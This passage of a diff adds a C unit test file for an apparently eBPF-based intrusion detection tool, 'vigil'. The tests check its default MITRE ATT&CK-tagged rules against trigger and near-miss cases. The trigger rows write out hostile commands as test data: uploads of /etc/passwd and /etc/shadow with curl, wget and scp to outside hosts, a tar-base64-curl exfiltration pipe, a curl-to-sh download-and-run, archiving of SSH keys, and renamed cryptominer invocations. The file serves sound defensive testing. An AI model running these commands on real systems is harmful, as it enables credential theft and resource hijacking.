+	  { EXEC("/usr/bin/ss", "ss\t-tanp") }, .why = "listing sockets" },
+
+	{ "packet-socket-opened", true,
+	  { SYS("/tmp/x", 41), .args = { 17, 3, 0x300 } }, .why = "AF_PACKET from custom code" },
+	{ "packet-socket-opened", false,
+	  { SYS("/usr/sbin/dhclient", 41), .args = { 17, 2, 0x300 } }, .why = "DHCP client" },
+	{ "packet-socket-opened", false,
+	  { SYS("/usr/bin/curl", 41), .args = { 2, 1, 6 } }, .why = "a TCP socket" },
+
+	{ "system-fingerprinting", true,
+	  { FOP("/tmp/x", "/etc/os-release", R) }, .why = "a dropper's recon (counted toward the burst)" },
+	{ "system-fingerprinting", true,
+	  { FOP("/tmp/x", "/proc/4242/net/route", R) }, .why = "routes" },
+	{ "system-fingerprinting", false,
+	  { FOP("/usr/lib/systemd/systemd", "/etc/os-release", R) }, .why = "systemd" },
+	{ "system-fingerprinting", false,
+	  { FOP("/tmp/x", "/etc/passwd", R) }, .why = "not a fingerprinting file" },
+
+	{ "security-tooling-recon", true,
+	  { FOP("/usr/bin/ls", "/sys/fs/bpf", R) }, .why = "ls /sys/fs/bpf" },
+	{ "security-tooling-recon", true,
+	  { FOP("/usr/bin/cat", "/etc/vigil/rules.d/local.yaml", R) }, .why = "reading vigil's rules" },
+	{ "security-tooling-recon", false,
+	  { FOP("/usr/sbin/bpftool", "/sys/fs/bpf/vigil/vg_procs", R) }, .why = "bpftool" },
+	{ "security-tooling-recon", false,
+	  { FOP("/usr/bin/ls", "/sys/fs/cgroup", R) }, .why = "listing cgroups" },
+
+	/* ---------------- exfiltration, collection ---------------- */
+	{ "network-file-copy", true,
+	  { EXEC("/usr/bin/scp", "scp\t/etc/passwd\tuser@10.0.0.5:/tmp/") }, .why = "scp upload" },
+	{ "network-file-copy", true,
+	  { EXEC("/usr/bin/rsync", "rsync\t-az\t/home/\tbackup@host:/data/") }, .why = "rsync upload" },
+	{ "network-file-copy", false,
+	  { EXEC("/usr/bin/scp", "scp\t-t\t/tmp") }, .why = "the scp server side" },
+	{ "network-file-copy", false,
+	  { EXEC("/usr/bin/scp", "scp\thost:/var/log/x.log\t.") }, .why = "scp download" },
+	{ "network-file-copy", false,
+	  { EXEC("/usr/bin/rsync", "rsync\t-a\tbuild/\t/srv/www/") }, .why = "a local copy" },
+
+	{ "http-file-upload", true,
+	  { EXEC("/usr/bin/curl", "curl\t-F\tfile=@/etc/passwd\thttps://x.example/up") }, .why = "curl -F" },
+	{ "http-file-upload", true,
+	  { EXEC("/usr/bin/curl", "curl\t--data-binary\t@-\thttp://1.2.3.4/") }, .why = "curl --data-binary @-" },
+	{ "http-file-upload", true,
+	  { EXEC("/usr/bin/wget", "wget\t--post-file=/etc/shadow\thttp://1.2.3.4/") }, .why = "wget --post-file" },
+	{ "http-file-upload", false,
+	  { EXEC("/usr/bin/curl", "curl\t-fsS\thttp://localhost:8000/index.html") }, .why = "curl to a local server" },
+	{ "http-file-upload", false,
+	  { EXEC("/usr/bin/curl", "curl\t-F\tf=@out.tgz\thttp://127.0.0.1:8080/upload") }, .why = "upload to localhost" },
+	{ "http-file-upload", false,
+	  { EXEC("/usr/bin/curl", "curl\t-o\tx.tgz\thttps://example.org/x.tgz") }, .why = "a download" },
+
+	{ "encoded-data-to-network", true,
+	  { EXEC("/usr/bin/curl", "curl\t-d\t@-\thttp://x.example/"),
+	    PARENT("/usr/bin/dash", "sh\t-c\ttar cz /etc | base64 -w0 | curl -d @- http://x.example/") },
+	  .why = "tar | base64 | curl" },
+	{ "encoded-data-to-network", false,
+	  { EXEC("/usr/bin/curl", "curl\t-s\thttp://x.example/i"),
+	    PARENT("/usr/bin/dash", "sh\t-c\tcurl -s http://x.example/i | base64 -d | sh") },
+	  .why = "download and decode (not exfiltration)" },
+
+	{ "sensitive-files-archived", true,
+	  { EXEC("/usr/bin/tar", "tar\tczf\t/tmp/k.tgz\t/root/.ssh\t/etc/shadow") }, .why = "tar of keys" },
+	{ "sensitive-files-archived", false,
+	  { EXEC("/usr/bin/tar", "tar\tczf\tbuild.tgz\tbuild/") }, .why = "packing the build output" },
+
+	/* ---------------- impact ---------------- */
+	{ "crypto-miner-exe", true,
+	  { EXEC("/tmp/xmrig", "./xmrig") }, .why = "xmrig" },
+	{ "crypto-miner-exe", false,
+	  { EXEC("/usr/bin/xmllint", "xmllint\t--noout\tx.xml") }, .why = "xmllint" },
+
+	{ "crypto-miner-args", true,
+	  { EXEC("/tmp/.cache/systemd-helper", "systemd-helper\t-o\tstratum+tcp://pool.supportxmr.com:3333\t-u\t4abc") },
+	  .why = "renamed miner" },
+	{ "crypto-miner-args", true,
+	  { EXEC("/opt/x/kworker", "kworker\t--donate-level=1\t-a\trx/0") }, .why = "miner options" },
+	{ "crypto-miner-args", false,
+	  { EXEC("/usr/bin/python3.11", "python3\t-m\tpip\tinstall\t--upgrade\tpip") }, .why = "pip" },
+	{ "crypto-miner-args", false,
+	  { EXEC("/usr/bin/gcc", "gcc\t-O2\t-o\tstratum\tstratum.c") }, .why = "compiling a file named stratum" },
+};
+
+#define NROWS (sizeof(rows) / sizeof(rows[0]))
+
+static struct vg_rules *defaults;
+static struct vg_rule_tables tables;
+static pid_t child, inet_child, unix_child;
+
+static pid_t spawn(int fd)
+{
+	pid_t p = fork();
+
+	if (p == 0) {
+		if (fd >= 0) {
+			dup2(fd, 0);
+			dup2(fd, 1);
+		}
+		pause();
+		_exit(0);
+	}
+	return p;
+}
+
+static int setup(void **state)
+{
+	struct vg_rule_errors errs = {};
+	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	socklen_t al = sizeof(a);
+	int l = socket(AF_INET, SOCK_STREAM, 0), c = socket(AF_INET, SOCK_STREAM, 0), sp[2];
+
+	defaults = vg_rules_load(NULL, &errs);
+	if (!defaults) {
+		vg_rule_errors_print(&errs, stderr);
+		vg_rule_errors_free(&errs);
+		return -1;
+	}
+	if (vg_rules_compile(defaults, 0, &tables))
+		return -1;
+	if (bind(l, (struct sockaddr *)&a, sizeof(a)) || listen(l, 1) ||
+	    getsockname(l, (struct sockaddr *)&a, &al) || connect(c, (struct sockaddr *)&a, sizeof(a)) ||
+	    socketpair(AF_UNIX, SOCK_STREAM, 0, sp))
+		return -1;
+	child = spawn(-1);
+	inet_child = spawn(c);
+	unix_child = spawn(sp[0]);
+	close(c);
+	close(sp[0]);
+	close(sp[1]);
+	close(l);
+	usleep(50000);
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	pid_t p[] = { child, inet_child, unix_child };
+
+	for (int i = 0; i < 3; i++) {
+		kill(p[i], SIGKILL);
+		waitpid(p[i], NULL, 0);
+	}
+	vg_rule_tables_free(&tables);
+	vg_rules_free(defaults);
+	return 0;
+}
+
+/* The operation of a row with its special parts filled in. */
+static struct t_op row_op(const struct row *r, char *path, size_t len)
+{
+	struct t_op op = r->op;
+	pid_t pid = r->sp == SP_OTHER ? 1 : r->sp == SP_CHILD ? child : 0;
+
+	if (r->sp == SP_INET)
+		op.self_pid = inet_child;
+	if (r->sp == SP_UNIX)
+		op.self_pid = unix_child;
+	if (pid) {
+		const char *at = op.path ? strstr(op.path, "%d") : NULL;
+
+		if (at) {
+			snprintf(path, len, "%.*s%d%s", (int)(at - op.path), op.path, pid, at + 2);
+			op.path = path;
+		}
+		if (op.nr == 101)
+			op.args[1] = pid;
+		if (op.nr == 310 || op.nr == 311)
+			op.args[0] = pid;
+	}
+	return op;
+}
+
+static void test_defaults_load(void **state)
+{
+	size_t n = vg_rules_count(defaults), counts[VG_RK_MAX] = { 0 };
+
+	assert_true(n >= 60);
+	for (size_t i = 0; i < n; i++) {
+		const struct vg_rule *r = vg_rules_at(defaults, i);
+
+		assert_string_equal(r->source, "builtin");
+		assert_true(r->enabled);
+		assert_non_null(r->tactic_name);
+		assert_non_null(r->technique_name);
+		assert_true(strlen(r->description) > 20);
+		assert_int_not_equal(r->bit, VG_RULE_NOBIT);
+		counts[r->kind]++;
+	}
+	/* room left in every kind for users' rules */
+	for (int k = 0; k < VG_RK_MAX; k++)
+		assert_true(defaults->nbits[k] <= VG_RULES_MAX - 32);
+	/* every tactic of the issue is covered */
+	{
+		static const char *const want[] = { "TA0002", "TA0003", "TA0004", "TA0005", "TA0006",
+						    "TA0007", "TA0009", "TA0010", "TA0040" };
+
+		for (size_t w = 0; w < sizeof(want) / sizeof(want[0]); w++) {
+			bool seen = false;
+
+			for (size_t i = 0; i < n; i++)
+				seen |= !strcmp(vg_rules_at(defaults, i)->tactic, want[w]);
+			if (!seen)
+				fail_msg("no default rule for tactic %s", want[w]);
+		}
+	}
+}
+
+/* Every default rule appears in the table with a trigger and a near-miss. */
+static void test_table_covers_every_rule(void **state)
+{
+	for (size_t i = 0; i < vg_rules_count(defaults); i++) {
+		const char *id = vg_rules_at(defaults, i)->id;
+		bool hit = false, miss = false;
+
+		for (size_t k = 0; k < NROWS; k++)
+			if (!strcmp(rows[k].rule, id)) {
+				hit |= rows[k].want;
+				miss |= !rows[k].want;
+			}
+		if (!hit || !miss)
+			fail_msg("default rule %s has no %s case", id, !hit ? "trigger" : "near-miss");
+	}
+	for (size_t k = 0; k < NROWS; k++)
+		if (!vg_rules_find(defaults, rows[k].rule))
+			fail_msg("table names an unknown rule %s", rows[k].rule);
+}
+
+static void test_triggers_and_near_misses(void **state)
+{
+	int bad = 0;
+
+	for (size_t k = 0; k < NROWS; k++) {
+		const struct row *row = &rows[k];
+		const struct vg_rule *r = vg_rules_find(defaults, row->rule);
+		char path[128];
+		struct t_op op = row_op(row, path, sizeof(path));
+		struct t_match t;
+		bool got = vg_rule_matches(r, t_match_build(&t, &op));
+
+		t_match_free(&t);
+		if (got != row->want) {
+			fprintf(stderr, "%s: %s (%s) %s\n", row->rule, row->want ? "trigger" : "near-miss",
+				row->why, got ? "matched" : "did not match");
+			bad++;
+			continue;
+		}
+		/* what user space reports, the kernel must have sent */
+		if (row->want && !t_kernel_flags(&tables, r, &op)) {
+			fprintf(stderr, "%s: trigger (%s) is not a kernel candidate\n", row->rule, row->why);
+			bad++;
+		}
+	}
+	assert_int_equal(bad, 0);
+}
+
+/* The kernel tables keep a plain operation away from user space: a benign
+ * build's typical operations are candidates of few rules (cheap to finish). */
+static void test_kernel_filters_benign_work(void **state)
+{
+	static const struct t_op ops[] = {
+		{ FOP("/usr/bin/x86_64-linux-gnu-gcc-12", "/home/u/p/main.o", VG_FA_WRITE | VG_FA_CREATE) },
+		{ FOP("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/include/stdio.h", R) },
+		{ FOP("/usr/bin/python3.11", "/usr/lib/python3.11/os.py", R) },
+		{ FOP("/usr/bin/git", "/tmp/p/.git/objects/ab/cdef", VG_FA_CREATE | VG_FA_WRITE) },
+		{ FOP("/usr/bin/tar", "/tmp/p/out.tgz", VG_FA_CREATE | VG_FA_WRITE) },
+		{ FOP("/usr/bin/dpkg", "/usr/bin/hello", VG_FA_RENAME_TO) },
+		{ FOP("/usr/bin/dpkg", "/var/lib/dpkg/status", VG_FA_RENAME_TO) },
+		{ EXEC("/usr/bin/make", "make"), PARENT("/usr/bin/bash", "bash") },
+		{ EXEC("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1"), PARENT("/usr/bin/gcc", "gcc") },
+		{ EXEC("/usr/bin/sha256sum", "sha256sum\tout.tgz"), PARENT("/usr/bin/bash", "bash") },
+	};
+
+	for (size_t i = 0; i < sizeof(ops) / sizeof(ops[0]); i++) {
+		struct vg_rbits c = t_kernel_candidates(&tables, 0, &ops[i]);
+		struct t_match t;
+		int n = 0;
+
+		for (unsigned b = 0; b < VG_RULES_MAX; b++) {
+			const struct vg_rule *r;
+
+			if (!t_rbit(&c, b))
+				continue;
+			n++;
+			r = vg_rules_by_bit(defaults, ops[i].kind, b);
+			/* a candidate is fine, a finding is not */
+			if (vg_rule_matches(r, t_match_build(&t, &ops[i])))
+				fail_msg("benign op %zu (%s %s) matches %s", i, ops[i].self.exe,
+					 ops[i].path ? ops[i].path : "", r->id);
+			t_match_free(&t);
+		}
+		/* exec: argv-only rules see every exec (scan_all); files: at most a few */
+		if (ops[i].kind == VG_RK_FILE && n > 2)
+			fail_msg("benign op %zu (%s) is a candidate of %d rules", i, ops[i].path, n);
+	}
+}
+
+/* The syscall names rules use map to this machine's x86_64 numbers. */
+static void test_syscall_table(void **state)
+{
+	static const struct {
+		const char *name;
+		long nr;
+	} known[] = {
+		{ "ptrace", SYS_ptrace },	    { "process_vm_readv", SYS_process_vm_readv },
+		{ "process_vm_writev", SYS_process_vm_writev }, { "init_module", SYS_init_module },
+		{ "finit_module", SYS_finit_module }, { "bpf", SYS_bpf },
+		{ "socket", SYS_socket },	    { "setuid", SYS_setuid },
+		{ "memfd_create", SYS_memfd_create }, { "mount", SYS_mount },
+		{ "unshare", SYS_unshare },	    { "setns", SYS_setns },
+		{ "kill", SYS_kill },		    { "capset", SYS_capset },
+		{ "execveat", SYS_execveat },	    { "openat2", SYS_openat2 },
+		{ "pidfd_getfd", SYS_pidfd_getfd }, { "kexec_file_load", SYS_kexec_file_load },
+	};
+	const char *const *names;
+	const uint32_t *nrs;
+	size_t n = vg_syscall_table(&names, &nrs);
+	uint64_t v;
+	int found;
+
+	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
+		assert_int_equal(vg_syscall_nr(known[i].name), known[i].nr);
+	assert_true(n > 350);
+	assert_int_equal(vg_syscall_nr("no_such_call"), -1);
+	assert_string_equal(vg_syscall_name(101), "ptrace");
+	/* named arguments */
+	assert_int_equal(vg_syscall_named_arg("request", "PTRACE_SEIZE", &v, &found), 0);
+	assert_true(found);
+	assert_int_equal(v, 0x4206);
+	vg_syscall_named_arg("request", "0x10", &v, &found);
+	assert_true(found);
+	assert_int_equal(v, 16);
+	vg_syscall_named_arg("family", "AF_PACKET", &v, &found);
+	assert_int_equal(v, 17);
+	vg_syscall_named_arg("cmd", "BPF_PROG_LOAD", &v, &found);
+	assert_int_equal(v, 5);
+	assert_int_equal(vg_syscall_named_arg("nope", "x", &v, &found), -1);
+}
+
+static void test_mitre_table(void **state)
+{
+	assert_string_equal(vg_mitre_tactic_name("TA0002"), "Execution");
+	assert_string_equal(vg_mitre_tactic_name("TA0040"), "Impact");
+	assert_null(vg_mitre_tactic_name("TA9999"));
+	assert_string_equal(vg_mitre_technique_name("T1059.004"), "Unix Shell");
+	assert_string_equal(vg_mitre_technique_name("T1003.008"), "/etc/passwd and /etc/shadow");
+	assert_null(vg_mitre_technique_name("T1059.999"));
+	/* sub-techniques inherit their parent's tactics */
+	assert_string_equal(vg_mitre_technique_tactics("T1053.003"), "TA0002,TA0003,TA0004");
+	assert_string_equal(vg_mitre_technique_tactics("T1611"), "TA0004");
+	assert_string_equal(vg_severity_name(VG_SEV_CRITICAL), "critical");
+	assert_string_equal(vg_rule_kind_name(VG_RK_SYSCALL), "syscall");
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_defaults_load),
+		cmocka_unit_test(test_table_covers_every_rule),
+		cmocka_unit_test(test_triggers_and_near_misses),
+		cmocka_unit_test(test_kernel_filters_benign_work),
+		cmocka_unit_test(test_syscall_table),
+		cmocka_unit_test(test_mitre_table),
+	};
+
+	return cmocka_run_group_tests(tests, setup, teardown);
+}
